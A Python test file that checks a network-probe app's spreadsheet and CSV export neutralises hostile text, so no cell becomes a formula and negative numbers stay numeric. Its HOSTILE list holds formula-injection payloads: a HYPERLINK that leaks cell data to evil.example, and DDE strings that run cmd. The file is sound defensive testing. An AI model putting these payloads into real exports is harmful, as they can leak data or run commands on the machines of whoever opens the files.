"""Hostile text from plan files and host names ends up as inert text in both formats; real negative
numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from desktop.export import ExportRequest, build_workbook, write_csv, write_xlsx
from probes.store import Store
from probes.target import Method, Target
from tests.analysis.synthetic import Series, StepModel, utc_us, write_series
from tests.export.conftest import EXPORTED_AT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prices")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_export(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    out = tmp_path_factory.mktemp("hostile")
    with Store(out / "s.sqlite3") as store:
        series = []
        for i, text in enumerate(HOSTILE):
            # Better at peak than off-peak, so the changes are real negative numbers.
            target = Target(
                method=Method.ICMP, host=f"127.0.0.{i + 1}", provider=text, region=text, line_type=text
            )
            series.append(Series(target, StepModel(200.0, 150.0, 5, 0)))
        # A target's name can start with "-" too (a host name cannot: `probes.addresses` refuses one).
        series.append(
            Series(
                Target(method=Method.ICMP, host="127.0.1.1", name="-2+3", provider="p", region="-2+3"),
                StepModel(90, 95),
            )
        )
        write_series(store, series, utc_us(2026, 11, 2), 24)
        workbook = build_workbook(store, ExportRequest(), exported_at=EXPORTED_AT)
    write_xlsx(workbook, out / "w.xlsx")
    write_csv(workbook, out / "csv")
    return out / "w.xlsx", out / "csv"


def test_xlsx_has_no_formulas_and_no_cell_starting_like_one(hostile_export: tuple[Path, Path]) -> None:
    xlsx, _ = hostile_export
    book = openpyxl.load_workbook(xlsx)
    seen_hostile = 0
    negative_numbers = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), f"{sheet.title}!{cell.coordinate}"
                    if cell.value[1:].replace("_x000D_", "\r") in HOSTILE:
                        seen_hostile += 1
                elif (
                    isinstance(cell.value, int | float)
                    and not isinstance(cell.value, bool)
                    and cell.value < 0
                ):
                    negative_numbers += 1
    assert seen_hostile >= 3 * len(HOSTILE)  # provider and region in two sheets, claimed line type
    assert negative_numbers >= len(HOSTILE)  # p95 changes at peak: -50 ms, kept numeric


def test_hostile_text_is_kept_readable(hostile_export: tuple[Path, Path]) -> None:
    xlsx, _ = hostile_export
    sheet = openpyxl.load_workbook(xlsx)["Link quality"]
    # A carriage return is stored as the escape _x000D_ (XML would turn a raw one into a line feed); Excel
    # and LibreOffice decode it, openpyxl does not.
    providers = {sheet.cell(r, 1).value.replace("_x000D_", "\r") for r in range(2, sheet.max_row + 1)}
    assert {"'" + text for text in HOSTILE} <= providers
    headers = [c.value for c in sheet[1]]
    p95_change = headers.index("p95 change at peak (ms)") + 1
    changes = [sheet.cell(r, p95_change).value for r in range(2, sheet.max_row + 1)]
    assert sum(1 for v in changes if isinstance(v, float) and v < -40) == len(HOSTILE)


def test_csv_fields_never_start_like_a_formula_unless_they_are_numbers(
    hostile_export: tuple[Path, Path],
) -> None:
    _, folder = hostile_export
    negative_numbers = 0
    for path in folder.iterdir():
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    if field.startswith(DANGEROUS):
                        float(field)  # only a real number may start with "-" (or "+")
                        negative_numbers += 1
    assert negative_numbers >= len(HOSTILE)


def test_chart_titles_from_hostile_labels_stay_text(hostile_export: tuple[Path, Path]) -> None:
    import re
    import zipfile

    xlsx, _ = hostile_export
    with zipfile.ZipFile(xlsx) as archive:
        charts = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == len(HOSTILE) + 1
    for xml in charts:
        title = re.search(r"<c:title>.*?</c:title>", xml, re.S)
        assert title is not None
        assert "<c:rich>" in title.group(0) and "<c:strRef>" not in title.group(0)


@pytest.fixture(scope="module")
def hostile_catalog_export(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from catalogs.loader import load_catalogs
    from catalogs.needs import load_needs
    from tests.export.catalog_fixtures import write_catalogs, write_needs

    out = tmp_path_factory.mktemp("hostile-catalog")
    catalogs = load_catalogs(write_catalogs(out / "catalogs", hostile=True))
    assert not catalogs.errors
    with Store(out / "s.sqlite3") as store:
        target = Target(
            method=Method.ICMP,
            host="127.0.0.1",
            provider="evilcorp",
            region="los-angeles",
            line_type=HOSTILE[0],
        )
        write_series(store, [Series(target, StepModel(200.0, 150.0, 5, 0))], utc_us(2026, 11, 2), 24)
        request = ExportRequest(needs=load_needs(write_needs(out)), catalogs=catalogs)
        workbook = build_workbook(store, request, exported_at=EXPORTED_AT)
    write_xlsx(workbook, out / "w.xlsx")
    write_csv(workbook, out / "csv")
    return out / "w.xlsx", out / "csv"


def test_hostile_catalog_text_is_inert_in_every_sheet(hostile_catalog_export: tuple[Path, Path]) -> None:
    from tests.export.catalog_fixtures import HOSTILE_TEXTS

    xlsx, folder = hostile_catalog_export
    book = openpyxl.load_workbook(xlsx)
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (
                        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    )
                    text = cell.value.replace("_x000D_", "\r")
                    found.update(h for h in HOSTILE_TEXTS if text == "'" + h)
    # The provider's name and the offering's source (h[0]) and the offering's name (h[4], with a tab) are shown
    # (Ranking, GPU offerings, Method), neutralised.
    assert found >= {HOSTILE_TEXTS[0], HOSTILE_TEXTS[4]}
    for path in folder.iterdir():
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    if field.startswith(DANGEROUS):
                        float(field)  # a real number, nothing else
